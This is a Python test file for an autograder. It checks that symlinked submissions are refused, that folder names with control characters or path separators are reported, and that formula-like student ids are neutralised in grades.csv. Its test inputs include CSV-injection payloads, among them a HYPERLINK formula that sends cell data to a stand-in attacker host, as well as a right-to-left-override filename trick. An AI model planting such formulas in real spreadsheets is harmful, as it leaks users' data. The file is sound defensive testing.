"""Names and links are data: hostile file links, folder names and spreadsheet formulas change nothing.

A submission file that is a link (to the instructor's solution, say) is refused, not graded; a
student folder whose name could break a path, a line or a terminal is reported, not graded; and
an id a spreadsheet would run as a formula lands in grades.csv as plain text.
"""
import csv
import json
import os
import shutil
import time

import pytest

from autograder import graders
from autograder.classroom import grade_all as batch
from autograder.classroom.grade_all import BatchOptions, discover, grade_all, student_id_problem, survey, write_grades_csv
from autograder.host.context import GradingContext
from autograder.host.grading import (MAX_SUBMISSION_BYTES, SubmissionRefused, find_submission_file,
                                grade_submission)
from autograder.core.outcomes import Outcome
from conftest import ROOT, run_cli

ASSIGNMENT = "fashion_mnist"
SOLUTION = ROOT / "solutions" / f"{ASSIGNMENT}.py"
STUB = ROOT / "exercises" / f"{ASSIGNMENT}.py"
MAXIMUM = graders.load(ASSIGNMENT).max_score
# '=HYPERLINK("http://x","y")' cannot name a folder (it holds slashes); the same attack without them:
FORMULA_IDS = ["=1+2", '=HYPERLINK("evil.example?"&B2,"y")', "+cmd", "@SUM(A1)", "-2+3"]
LINK_MESSAGE = f"{ASSIGNMENT}.py is a link; hand in the file itself."


def student_folder(root, name, source="x = 1\n"):
    folder = root / name
    folder.mkdir(parents=True)
    (folder / f"{ASSIGNMENT}.py").write_text(source, encoding="utf-8")
    return folder


def fake_results(out, student, score=1.0, max_score=4.0, outcome="passed"):
    (out / student).mkdir(parents=True)
    (out / student / "results.json").write_text(json.dumps({
        "score": score, "max_score": max_score, "tests": [
            {"score": score, "max_score": max_score, "tags": [ASSIGNMENT, "c1"], "extra_data": {"outcome": outcome}}]}),
        encoding="utf-8")


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


# ---------------------------------------------------------------------------- discover
@pytest.mark.parametrize("name", ["a\nb", "a\rb", "a\tb", "tab\t", "esc\x1b[31mred", "a\u2028b", "rtl\u202eyp.exe"])
def test_discover_reports_names_with_control_characters_instead_of_grading_them(tmp_path, name):
    student_folder(tmp_path, name)
    student_folder(tmp_path, "ok")
    found = survey(tmp_path)
    assert [s.id for s in found.students] == ["ok"]
    assert [(r.name, str(r.reason)) for r in found.rejected] == [
        (name, "the name holds a control character (a newline, tab or the like)")]
    assert [s.id for s in discover(tmp_path)] == ["ok"]


def test_discover_reports_single_files_with_hostile_names_too(tmp_path):
    (tmp_path / "a\nb.py").write_text("x = 1\n", encoding="utf-8")
    (tmp_path / "good.ipynb").write_text("{}", encoding="utf-8")
    found = survey(tmp_path)
    assert [s.id for s in found.students] == ["good"]
    assert [r.name for r in found.rejected] == ["a\nb.py"]


def test_a_slash_cannot_name_a_folder_but_the_id_check_refuses_separators_anyway():
    assert str(student_id_problem("a/b")) == "the name holds a path separator"
    assert str(student_id_problem("..\\..\\b")) == "the name holds a path separator"
    assert student_id_problem("=1+2") is None and student_id_problem("ছাত্র_১") is None


def test_discover_reports_linked_folders_and_files(tmp_path):
    classroom = tmp_path / "class"
    classroom.mkdir()
    student_folder(classroom, "honest")
    (classroom / "borrowed").symlink_to(ROOT / "solutions", target_is_directory=True)
    (classroom / "copied.py").symlink_to(SOLUTION)
    (classroom / "dangling.py").symlink_to(tmp_path / "nowhere.py")
    (classroom / "notes.txt").symlink_to(SOLUTION)  # not a submission name: passed over, as any other file
    found = survey(classroom)
    assert [s.id for s in found.students] == ["honest"]
    assert {r.name: str(r.reason) for r in found.rejected} == {
        name: "it is a link; copy the student's files in instead" for name in ("borrowed", "copied.py", "dangling.py")}


def test_discover_reports_long_names_and_special_files(tmp_path):
    student_folder(tmp_path, "x" * batch.MAX_ID_CHARS)
    student_folder(tmp_path, "y" * (batch.MAX_ID_CHARS + 1))
    os.mkfifo(tmp_path / "pipe.py")  # reading it would block the batch forever
    found = survey(tmp_path)
    assert [s.id for s in found.students] == ["x" * batch.MAX_ID_CHARS]
    assert {r.name: str(r.reason) for r in found.rejected} == {
        "y" * (batch.MAX_ID_CHARS + 1): f"the name is longer than {batch.MAX_ID_CHARS} characters",
        "pipe.py": "it is not a regular file"}


def test_discover_keeps_formula_like_ids_they_are_legal_folder_names(tmp_path):
    for name in FORMULA_IDS:
        student_folder(tmp_path, name)
    found = survey(tmp_path)
    assert sorted(s.id for s in found.students) == sorted(FORMULA_IDS) and not found.rejected


def test_grade_all_grades_the_rest_and_reports_what_it_refused(tmp_path, grading_processes_exit_3):
    classroom = tmp_path / "class"
    student_folder(classroom, "=1+2")
    student_folder(classroom, "line\nbreak")
    (classroom / "borrowed").symlink_to(ROOT / "solutions", target_is_directory=True)
    # No TensorFlow here: every grader "dies", which records a zero for the student.
    report = grade_all(classroom, tmp_path / "out", BatchOptions(assignments=(ASSIGNMENT,), workers=1))
    assert [s.student for s in report.summaries] == ["=1+2"]
    assert sorted(r.name for r in report.rejected) == ["borrowed", "line\nbreak"]
    assert sorted(p.name for p in (tmp_path / "out").iterdir() if p.is_dir()) == ["=1+2"]
    table = read_csv(tmp_path / "out" / "grades.csv")
    assert [row[0] for row in table] == ["student_id", "'=1+2"]


# ---------------------------------------------------------------------------- grades.csv
def test_grades_csv_neutralises_formulas_and_keeps_one_row_per_student(tmp_path):
    students = [*FORMULA_IDS, "normal"]
    for student in students:
        fake_results(tmp_path, student)
    path = write_grades_csv(tmp_path, (ASSIGNMENT,))
    table = read_csv(path)
    assert table[0] == ["student_id", ASSIGNMENT, "total", "max", "status", "isolation"]
    body = table[1:]
    assert len(body) == len(students)
    ids = [row[0] for row in body]
    assert sorted(ids) == sorted(["'" + s for s in FORMULA_IDS] + ["normal"])
    for cell in ids:
        assert cell.startswith("'") or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert cell.lstrip("'") in students
    assert all(row[1:] == ["1", "1", "4", "ok", "unknown"] for row in body)  # numbers untouched
    raw = path.read_text(encoding="utf-8")
    assert not any(line.startswith(("=", "+", "-", "@")) for line in raw.split("\n"))
    assert len(raw.strip("\n").split("\n")) == len(students) + 1


def test_spreadsheet_safe_only_touches_formula_starts():
    assert batch.spreadsheet_safe("=1+2") == "'=1+2"
    assert batch.spreadsheet_safe("\tx") == "'\tx" and batch.spreadsheet_safe("\rx") == "'\rx"
    assert batch.spreadsheet_safe("a=1") == "a=1" and batch.spreadsheet_safe("'=1") == "'=1"
    assert batch.spreadsheet_safe("") == ""


@pytest.mark.parametrize("content", [
    "{not json",
    b"\xff\xfe garbage",
    "[]",
    "null",
    json.dumps({"score": 1, "max_score": 4}),
    json.dumps({"score": 1, "max_score": 4, "tests": [{"score": 1}]}),
    json.dumps({"score": 1, "max_score": 4, "tests": [{"score": 1, "tags": [], "extra_data": {"outcome": "ok"}}]}),
    json.dumps({"score": "=1+2", "max_score": 4, "tests": []}),
    json.dumps({"score": 1, "max_score": 4, "tests": [{"score": [1], "tags": ["x"], "extra_data": {"outcome": "ok"}}]}),
    json.dumps({"max_score": 4, "tests": []}),
    "NaN",
], ids=lambda c: repr(c)[:30])
def test_an_unusable_results_json_is_left_out_with_a_warning(tmp_path, capsys, content):
    fake_results(tmp_path, "good")
    (tmp_path / "bad").mkdir()
    results = tmp_path / "bad" / "results.json"
    if isinstance(content, bytes):
        results.write_bytes(content)
    else:
        results.write_text(content, encoding="utf-8")
    table = read_csv(write_grades_csv(tmp_path, (ASSIGNMENT,)))
    assert [row[0] for row in table[1:]] == ["good"]
    warning = capsys.readouterr().err
    assert "warning" in warning and "'bad'" in warning and len(warning.strip().splitlines()) == 1


def test_results_under_a_hostile_folder_name_are_left_out(tmp_path, capsys):
    fake_results(tmp_path, "good")
    fake_results(tmp_path, "two\nrows")  # say, from a run before names were checked
    path = write_grades_csv(tmp_path, (ASSIGNMENT,))
    assert [row[0] for row in read_csv(path)[1:]] == ["good"]
    assert "two\\nrows" in capsys.readouterr().err
    assert len(path.read_text(encoding="utf-8").strip("\n").split("\n")) == 2


# ---------------------------------------------------------------------------- submission files
def test_a_linked_submission_file_is_refused(tmp_path):
    (tmp_path / f"{ASSIGNMENT}.py").symlink_to(SOLUTION)
    with pytest.raises(SubmissionRefused) as refused:
        find_submission_file(tmp_path, ASSIGNMENT)
    assert str(refused.value.message) == LINK_MESSAGE
    assert "লিংক" in refused.value.message.render("bn")


def test_a_link_next_to_a_real_file_is_refused_too(tmp_path):
    (tmp_path / f"{ASSIGNMENT}.py").write_text("x = 1\n", encoding="utf-8")
    (tmp_path / f"{ASSIGNMENT}.ipynb").symlink_to(tmp_path / "elsewhere.ipynb")  # dangling, newer: still refused
    with pytest.raises(SubmissionRefused, match="is a link"):
        find_submission_file(tmp_path, ASSIGNMENT)


def test_special_and_oversized_files_are_refused(tmp_path):
    (tmp_path / f"{ASSIGNMENT}.py").mkdir()
    with pytest.raises(SubmissionRefused, match="not a regular file"):
        find_submission_file(tmp_path, ASSIGNMENT)
    (tmp_path / f"{ASSIGNMENT}.py").rmdir()
    os.mkfifo(tmp_path / f"{ASSIGNMENT}.py")
    with pytest.raises(SubmissionRefused, match="not a regular file"):
        find_submission_file(tmp_path, ASSIGNMENT)
    (tmp_path / f"{ASSIGNMENT}.py").unlink()
    with open(tmp_path / f"{ASSIGNMENT}.ipynb", "wb") as handle:
        handle.truncate(MAX_SUBMISSION_BYTES[".ipynb"] + 1)  # sparse: costs no disk
    with pytest.raises(SubmissionRefused, match=r"larger than the 64 MiB"):
        find_submission_file(tmp_path, ASSIGNMENT)
    with open(tmp_path / f"{ASSIGNMENT}.ipynb", "wb") as handle:
        handle.truncate(MAX_SUBMISSION_BYTES[".ipynb"])
    assert find_submission_file(tmp_path, ASSIGNMENT) == (tmp_path / f"{ASSIGNMENT}.ipynb", "")
    (tmp_path / f"{ASSIGNMENT}.ipynb").unlink()
    with open(tmp_path / f"{ASSIGNMENT}.py", "wb") as handle:
        handle.truncate(MAX_SUBMISSION_BYTES[".py"] + 1)
    with pytest.raises(SubmissionRefused, match=r"larger than the 5 MiB"):
        find_submission_file(tmp_path, ASSIGNMENT)


def test_what_the_instructor_names_may_be_a_link(tmp_path):
    real = tmp_path / "real"
    real.mkdir()
    shutil.copy(STUB, real / f"{ASSIGNMENT}.py")
    (tmp_path / "chosen").symlink_to(real, target_is_directory=True)
    assert find_submission_file(tmp_path / "chosen", ASSIGNMENT) == (tmp_path / "chosen" / f"{ASSIGNMENT}.py", "")
    (tmp_path / f"{ASSIGNMENT}.py").symlink_to(real / f"{ASSIGNMENT}.py")
    assert find_submission_file(tmp_path / f"{ASSIGNMENT}.py", ASSIGNMENT) == (tmp_path / f"{ASSIGNMENT}.py", "")


def test_a_refused_file_scores_zero_as_an_error_without_running_anything(tmp_path):
    (tmp_path / f"{ASSIGNMENT}.py").symlink_to(SOLUTION)
    started = time.monotonic()
    result = grade_submission(tmp_path, assignment=ASSIGNMENT, context=GradingContext(seed=0))
    assert time.monotonic() - started < 5
    (graded,) = result.assignments
    assert graded.score == 0 and graded.max_score == MAXIMUM and graded.file is None
    assert {c.outcome for c in graded.checks} == {Outcome.ERROR}
    assert {str(c.message) for c in graded.checks} == {LINK_MESSAGE} and str(graded.note) == LINK_MESSAGE
    assert not result.grader_faults


def test_the_cli_refuses_a_link_to_the_solution(tmp_path):
    submission = tmp_path / "submission"
    submission.mkdir()
    (submission / f"{ASSIGNMENT}.py").symlink_to(SOLUTION)
    out = tmp_path / "out.json"
    started = time.monotonic()
    completed = run_cli("grade", str(submission), "--assignment", ASSIGNMENT, "--json", str(out), timeout=120)
    assert time.monotonic() - started < 60, "the refusal should come before any sandbox worker starts"
    assert completed.returncode == 0, completed.stdout + completed.stderr
    results = json.loads(out.read_text(encoding="utf-8"))
    assert results["score"] == 0 and results["max_score"] == MAXIMUM
    assert {t["extra_data"]["outcome"] for t in results["tests"]} == {"error"}
    assert all(LINK_MESSAGE in t["output"] for t in results["tests"])
    assert "is a link" in completed.stdout


@pytest.mark.slow
def test_grade_all_neutralises_a_formula_id_and_warns_about_refused_entries(tmp_path):
    classroom = tmp_path / "class"
    student_folder(classroom, "=1+2", STUB.read_text(encoding="utf-8"))
    student_folder(classroom, "two\nrows", STUB.read_text(encoding="utf-8"))
    (classroom / "borrowed").symlink_to(ROOT / "solutions", target_is_directory=True)
    (classroom / "linker").mkdir()  # a real folder, but its file is a link to the solution
    (classroom / "linker" / f"{ASSIGNMENT}.py").symlink_to(SOLUTION)
    out = tmp_path / "out"
    completed = run_cli("grade-all", str(classroom), "--out", str(out), "--assignment", ASSIGNMENT,
                        "--workers", "1", "--lang", "en")
    assert completed.returncode == 0, completed.stdout + completed.stderr
    assert "warning: 'borrowed' was not graded: it is a link" in completed.stderr
    assert "warning: 'two\\nrows' was not graded: the name holds a control character" in completed.stderr
    table = read_csv(out / "grades.csv")
    assert [row[0] for row in table[1:]] == ["'=1+2", "linker"]
    assert float(table[1][table[0].index("total")]) < MAXIMUM  # the stub is graded, not a solution
    assert table[2][-4:] == ["0", f"{MAXIMUM:g}", "error", "bwrap"]
    linker = json.loads((out / "linker" / "results.json").read_text(encoding="utf-8"))
    assert all(LINK_MESSAGE in t["output"] for t in linker["tests"])
    assert not any(line.startswith("=") for line in (out / "grades.csv").read_text(encoding="utf-8").split("\n"))
    assert (out / "=1+2" / "results.json").is_file() and not (out / "borrowed").exists()
    assert sorted(p.name for p in out.iterdir() if p.is_dir()) == ["=1+2", "linker"]
